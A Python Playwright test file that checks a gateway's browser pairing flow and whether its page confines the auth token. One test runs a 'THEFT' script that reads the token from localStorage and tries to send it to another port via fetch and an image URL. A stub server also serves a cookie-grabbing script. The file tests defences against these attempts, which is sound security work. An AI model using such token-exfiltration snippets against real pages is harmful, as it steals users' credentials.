"""The page as a device: paired at once on this machine, approved from another, known again."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import anyio.abc
import pytest
from anyio.abc import SocketStream
from playwright.async_api import Page, expect

from tests.e2e.browser import Chromium, expect_online
from tests.support.gateway import TOKEN, Rig, running_gateway
from tests.support.sockets import listening
from tests.support.wire import connected

pytestmark = pytest.mark.full("Chromium")

EXPORTED = """
() => new Promise((resolve) => {
  const request = indexedDB.open("skerry");
  request.onsuccess = () => {
    const store = request.result.transaction("identity").objectStore("identity");
    store.get("device").onsuccess = ({ target }) => resolve(target.result.privateKey.extractable);
  };
})
"""
STORED = "JSON.stringify([{ ...localStorage }, { ...sessionStorage }])"
THEFT = """
async (address) => {
  const token = localStorage["skerry.token"];
  const script = document.createElement("script");
  try {
    script.text = "globalThis.stolen = true";
    document.head.append(script);
  } catch {}
  const asked = fetch(`${address}/?${token}`, { mode: "no-cors" });
  const sent = await asked.then(() => true, () => false);
  const image = new Image();
  const loaded = new Promise((done) => {
    image.onload = image.onerror = ({ type }) => done(type === "load");
  });
  image.src = `${address}/x.png?${token}`;
  return { inline: Boolean(globalThis.stolen), fetch: sent, image: await loaded };
}
"""
"""What a script would try that got into the page."""


@asynccontextmanager
async def proxied(home: Path) -> AsyncIterator[tuple[Rig, str]]:
    """Runs a gateway; yields it and its address behind a proxy, which makes everybody remote."""
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener:
        port = listener.extra(anyio.abc.SocketAttribute.local_port)  # noqa: S610 - of a socket
        address = f"http://127.0.0.1:{port}"
        config = {"gateway": {"controlUi": {"allowedOrigins": [address]}}}
        async with running_gateway(home, config=config) as rig, anyio.create_task_group() as group:

            async def forward(client: anyio.abc.SocketStream) -> None:
                head = b""
                async with client, await anyio.connect_tcp("127.0.0.1", rig.port) as server:
                    while b"\r\n\r\n" not in head:
                        head += await client.receive()
                    line, _, rest = head.partition(b"\r\n")
                    await server.send(line + b"\r\nX-Forwarded-For: 203.0.113.9\r\n" + rest)
                    async with anyio.create_task_group() as pumps:
                        pumps.start_soon(pump, client, server)
                        await pump(server, client)
                        pumps.cancel_scope.cancel()

            group.start_soon(listener.serve, forward)
            yield rig, address
            group.cancel_scope.cancel()


async def pump(source: anyio.abc.SocketStream, sink: anyio.abc.SocketStream) -> None:
    """Passes on what comes, until one of the ends is gone."""
    try:
        async for data in source:
            await sink.send(data)
    except (anyio.BrokenResourceError, anyio.ClosedResourceError):
        return


async def approve(rig: Rig, page: Page) -> None:
    """Approve the request that the page names."""
    command = await page.locator("#pairing-command").inner_text()
    async with connected(rig.url) as owner:
        await owner.call("device.pair.approve", {"requestId": command.rpartition(" ")[2]})


async def test_on_this_machine_a_browser_is_paired_at_once_and_keeps_its_key(
    browser: Chromium, tmp_path: Path
) -> None:
    async with running_gateway(tmp_path) as rig:
        page = await browser.open(f"{rig.http}/#token={TOKEN}")
        await expect_online(page)
        await page.reload()
        await expect_online(page)
        async with connected(rig.url) as owner:
            (device,) = (await owner.call("device.pair.list"))["paired"]
        assert (device["clientId"], device["roles"]) == ("webchat-ui", ["operator"])
        assert device["displayName"].startswith("Page in Chrome")
        assert await page.evaluate(EXPORTED) is False


async def test_from_another_machine_a_browser_waits_until_it_is_approved(
    browser: Chromium, tmp_path: Path
) -> None:
    async with proxied(tmp_path) as (rig, address):
        page = await browser.open(f"{address}/#token={TOKEN}")
        await expect(page.get_by_role("heading", name="Waiting for approval")).to_be_visible()
        await approve(rig, page)
        await expect_online(page)
        for _ in range(2):
            assert TOKEN not in await page.evaluate(STORED)  # its own is all that it keeps
            await page.reload()
            await expect_online(page)
        await page.evaluate(f"location.hash = '#token={TOKEN}'")
        await expect_online(page)
        await page.wait_for_function(f"!({STORED}).includes('{TOKEN}')")


async def test_the_token_reaches_no_other_port_and_no_script_but_the_pages_own(
    browser: Chromium, tmp_path: Path
) -> None:
    heard: list[bytes] = []

    async def hear(stream: SocketStream) -> None:
        async with stream:
            heard.append(await stream.receive())
            body = b"<script>localStorage.found = document.cookie</script>"
            head = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: %d\r\n\r\n"
            await stream.send(head % len(body) + body)

    async with running_gateway(tmp_path) as rig, listening(hear) as port:
        page = await browser.open(f"{rig.http}/#token={TOKEN}")
        await expect_online(page)
        assert TOKEN in await page.evaluate(STORED)  # on this machine it stays: see SECURITY.md
        assert await page.context.cookies() == []
        tried = await page.evaluate(THEFT, f"http://127.0.0.1:{port}")
        assert tried == {"inline": False, "fetch": False, "image": False}
        assert heard == []
        assert browser.complaints  # the policy, of each
        browser.complaints.clear()
        other = await page.context.new_page()  # of the same browser
        await other.goto(f"http://127.0.0.1:{port}/")
        assert TOKEN not in await other.evaluate(STORED)
        assert all(TOKEN.encode() not in one and b"ookie" not in one for one in heard)


async def test_a_browser_without_keys_is_told_what_to_do(browser: Chromium, tmp_path: Path) -> None:
    async with proxied(tmp_path) as (_, address):
        page = await browser.tab()
        await page.add_init_script("Object.defineProperty(crypto, 'subtle', { value: undefined })")
        await page.goto(f"{address}/#token={TOKEN}")
        await expect(
            page.get_by_role("heading", name="This page needs a key of this browser")
        ).to_be_visible()
        await expect(page.locator("#tunnel")).to_contain_text("ssh -L")
